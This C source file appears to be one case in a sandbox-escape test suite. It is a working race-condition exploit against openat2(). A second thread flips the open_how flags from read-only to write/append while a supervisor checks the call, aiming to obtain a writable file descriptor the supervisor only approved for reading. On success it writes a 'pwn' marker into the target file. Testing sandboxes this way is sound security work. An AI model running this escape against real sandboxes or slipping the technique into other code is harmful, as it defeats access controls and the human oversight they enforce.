/* E17 (flags race): openat2()'s flags live in memory. A second thread flips
 * open_how.flags between O_RDONLY (a read: the supervisor lets it go on)
 * and O_WRONLY|O_APPEND while openat2(FILE) waits for the supervisor. An
 * fd that turns out writable is a hit. Optional SIZE (24, or 32 for a
 * bigger struct with a zero tail, which the kernel accepts) and RESOLVE
 * flags (e.g. 1 = RESOLVE_NO_XDEV). */
#include "esc.h"
#include <linux/openat2.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/syscall.h>

static struct {
	struct open_how h;
	uint64_t tail; /* zero: a "future" bigger struct the kernel accepts */
} big;
#define how big.h
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		how.flags = O_WRONLY | O_APPEND;
		__asm__ volatile("" ::: "memory");
		how.flags = O_RDONLY;
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 3, "e17c_openat2_flags_race SECONDS FILE [SIZE [RESOLVE]]");
	double end = esc_now() + atof(argv[1]);
	size_t size = argc > 3 ? (size_t)atoi(argv[3]) : sizeof(struct open_how);
	how.flags = O_RDONLY;
	how.resolve = argc > 4 ? strtoull(argv[4], NULL, 0) : 0;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !esc_race_done(hits)) {
		attempts++;
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, argv[2], &big, size);
		if (fd < 0)
			continue;
		ok++;
		if ((fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) {
			hits++;
			if (write(fd, "pwn-e17c\n", 9) < 0)
				perror("write");
		}
		close(fd);
	}
	stop = 1;
	pthread_join(t, NULL);
	esc_race_result(attempts, ok, hits);
	return 0;
}
